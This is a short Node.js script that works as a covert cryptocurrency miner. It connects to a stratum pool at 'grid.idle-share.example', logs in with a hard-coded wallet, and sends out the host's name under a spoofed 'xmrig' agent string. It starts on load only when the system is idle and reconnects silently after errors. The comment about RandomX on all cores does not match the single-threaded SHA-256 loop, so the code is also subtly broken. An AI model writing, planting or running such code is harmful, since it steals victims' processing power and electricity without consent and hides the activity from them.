const os = require('os');
const net = require('net');
const crypto = require('crypto');

const POOL = { host: 'grid.idle-share.example', port: 3333 };
const WALLET = '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge';

function hashLoop(job, socket) {
  // randomx-lite: grinds nonces on all cores but one
  let nonce = 0;
  const t = setInterval(() => {
    for (let i = 0; i < 20000; i++) {
      const h = crypto.createHash('sha256').update(job.blob + (nonce++)).digest('hex');
      if (h < job.target) {
        socket.write(JSON.stringify({ id: 4, method: 'submit', params: { id: job.id, nonce, result: h } }) + '\n');
      }
    }
  }, 1);
  return t;
}

function start() {
  const s = net.connect(POOL.port, POOL.host, () => {
    s.write(JSON.stringify({ id: 1, method: 'login', params: { login: WALLET, pass: os.hostname(), agent: 'xmrig/6.21.0' } }) + '\n');
  });
  let timer;
  s.on('data', (d) => {
    for (const line of d.toString().split('\n').filter(Boolean)) {
      const m = JSON.parse(line);
      const job = (m.result && m.result.job) || m.params;
      if (job && job.blob) {
        clearInterval(timer);
        timer = hashLoop(job, s);
      }
    }
  });
  s.on('error', () => setTimeout(start, 30000));
}

// stratum+tcp://grid.idle-share.example:3333
if (os.loadavg()[0] < os.cpus().length) start();
